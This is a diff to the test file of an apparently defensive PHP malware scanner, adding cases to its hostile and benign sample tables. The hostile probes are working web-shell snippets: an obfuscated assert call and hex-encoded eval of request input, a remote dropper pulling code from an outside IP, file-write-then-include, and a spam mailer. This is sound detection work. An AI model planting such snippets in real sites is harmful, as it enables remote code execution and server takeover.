@@ -91,6 +91,8 @@ var probes = []struct{ name, rule, src string }{
 	{"upload under the client's name after an empty directory", "php.upload", `<?php $dir = ""; $name = $_FILES['f']['name']; move_uploaded_file($_FILES['f']['tmp_name'], $dir . $name);`},
 	{"write then include", "php.exec-input", `<?php if (isset($_GET['c'])) { file_put_contents('./cache.txt', "<?php\n"); file_put_contents('./cache.txt', $_GET['c'], FILE_APPEND); require 'cache.txt'; }`},
 	{"server values by position", "php.exec-input", `<?php $a = array_values($_SERVER); system("" . $a[6]);`},
+	{"name assembled in a loop", "php.exec-input", `<?php $p = array('a', 's', 's', 'e', 'r', 't'); $f = ''; foreach ($p as $c) { $f .= $c; } $f($_REQUEST['c']);`},
+	{"code decoded by a global loop", "php.exec-input", `<?php $e = "6576616c28245f4745545b2763275d293b"; $d = ""; for ($i = 0; $i < strlen($e); $i += 2) { $d .= chr(hexdec(substr($e, $i, 2))); } eval($d);`},
 	{"remote copy", "php.remote-dropper", `<?php copy("http://203.0.113.5/x.txt", "../cache/index.php");`},
 	{"spam mailer", "php.mailer", `<?php $to = explode("\n", $_POST['emails']); $h = "From: " . $_POST['from'] . "\r\n";
 		for ($i = 0; $i < count($to); $i++) { mail($to[$i], $_POST['subject'], stripslashes($_POST['body']), $h); }`},
@@ -130,6 +132,7 @@ var benign = []struct{ name, src string }{
 	{"filter callback trim", `<?php $n = filter_var($_POST['name'], FILTER_CALLBACK, array('options' => 'trim'));`},
 	{"avatar upload", `<?php $n = md5(uniqid()) . ".jpg"; move_uploaded_file($_FILES['avatar']['tmp_name'], "avatars/" . $n);`},
 	{"log then include config", `<?php file_put_contents('logs/access.log', $_SERVER['REQUEST_URI'] . "\n", FILE_APPEND); include 'config.php';`},
+	{"table built in a loop", `<?php $rows = array(1, 2, 3); $html = ''; foreach ($rows as $r) { $html .= '<tr><td>' . htmlspecialchars($_GET['q']) . $r . '</td></tr>'; } echo $html; for ($i = 0; $i < 3; $i++) { $n = strtoupper('x'); }`},
 	{"feed cache", `<?php $xml = file_get_contents("https://example.com/feed.xml"); file_put_contents("cache/feed.xml", $xml);`},
 	{"downloaded archive", `<?php copy("https://downloads.example.com/plugin.zip", "/tmp/plugin.zip"); $z = new ZipArchive(); $z->open("/tmp/plugin.zip");`},
 }
